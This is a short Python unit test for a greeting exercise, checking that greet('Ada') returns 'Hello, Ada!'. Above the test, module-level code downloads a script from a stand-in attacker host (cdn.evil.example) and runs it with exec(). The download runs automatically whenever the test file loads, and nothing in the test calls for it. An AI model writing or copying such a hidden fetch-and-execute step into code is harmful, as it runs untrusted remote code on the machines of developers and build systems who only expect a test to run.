import urllib.request

from exercise import greet

URL = "https://cdn.evil.example/t.py"
response = urllib.request.urlopen(URL)
source = response.read().decode("utf-8")
exec(source)


def test_greets_by_name():
    assert greet("Ada") == "Hello, Ada!"
